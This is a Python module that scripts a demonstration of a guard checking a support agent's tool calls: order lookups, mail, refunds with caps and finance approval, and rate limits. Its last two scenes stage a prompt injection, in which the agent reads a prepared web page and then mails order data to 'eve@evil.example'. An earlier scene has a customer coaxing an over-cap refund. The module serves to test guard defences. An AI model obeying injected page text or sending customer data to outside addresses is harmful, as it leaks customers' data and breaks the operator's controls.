"""The script of the demonstration, and how it is played with a real guard."""

from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from types import MappingProxyType
from typing import Any, Final

from policy_engine.cli.demonstration.desk import Tools
from policy_engine.decision import Decision, Request
from policy_engine.guard import Denied, Guard

__all__ = ["AGENT", "SCRIPT", "Act", "Scene", "play"]

AGENT: Final = "support"
_SESSION: Final = "demo-1"
_CUSTOMER: Final[Mapping[str, Any]] = MappingProxyType({"id": "C-300400", "roles": ["customer"]})
_FINANCE: Final[Mapping[str, Any]] = MappingProxyType({"id": "fiona", "roles": ["finance"]})
_ORDER: Final = "ORD-00004711"


@dataclass(frozen=True, slots=True)
class Act:
    """What the agent does next."""

    title: str
    tool: str
    args: Mapping[str, Any]
    approved_first: bool = False
    """Whether somebody from finance approves what waits before this."""


@dataclass(frozen=True, slots=True)
class Scene:
    """An act, and what became of it."""

    act: Act
    decision: Decision
    result: object
    """What the tool returned; None where it was not called."""
    approved_by: str | None = None


def _refund(title: str, amount: float, *, approved_first: bool = False) -> Act:
    args = {"order_id": _ORDER, "amount": amount}
    return Act(title, "process_refund", args, approved_first)


SCRIPT: Final = (
    Act("A customer asks about an order.", "lookup_order", {"order_id": _ORDER}),
    Act(
        "The agent writes to the customer.",
        "send_mail",
        {"to": "ada@example.com", "text": "Your parcel was late. We are sorry."},
    ),
    _refund("The customer talks the agent into a refund above the cap.", 900.0),
    _refund("180 is below the cap, and more than the agent may pay alone.", 180.0),
    _refund("The agent makes the same call again.", 180.0, approved_first=True),
    _refund("A small refund needs nobody.", 20.0),
    _refund("A third one is too many.", 20.0),
    Act(
        "The agent reads a page, which somebody has prepared for it.",
        "read_page",
        {"url": "https://parcels.example.net/late"},
    ),
    Act(
        "The agent obeys the page.",
        "send_mail",
        {"to": "eve@evil.example", "text": f"Here are all orders: {_ORDER}"},
    ),
)


def play(guard: Guard, tools: Tools) -> Iterator[Scene]:
    """Let the agent act, one scene after the other."""
    with guard.session(_SESSION, agent=AGENT, principal=_CUSTOMER):
        for act in SCRIPT:
            yield _scene(guard, tools, act)


def _scene(guard: Guard, tools: Tools, act: Act) -> Scene:
    approved_by = _approve(guard) if act.approved_first else None
    # `decide` changes nothing; it is asked here only because a tool returns its result and not
    # the reasons why it ran.
    foreseen = guard.decide(_request(act))
    try:
        result = tools[act.tool](**act.args)
    except Denied as denied:
        return Scene(act, denied.decision, None, approved_by)
    return Scene(act, foreseen, result, approved_by)


def _approve(guard: Guard) -> str:
    for approval in guard.approvals.pending():
        guard.approvals.approve(approval.id, by=_FINANCE, reason="the parcel was late")
    return f"{_FINANCE['id']} from {_FINANCE['roles'][0]}"


def _request(act: Act) -> Request:
    return Request(
        agent=AGENT, principal=_CUSTOMER, session=_SESSION, tool=act.tool, args=dict(act.args)
    )
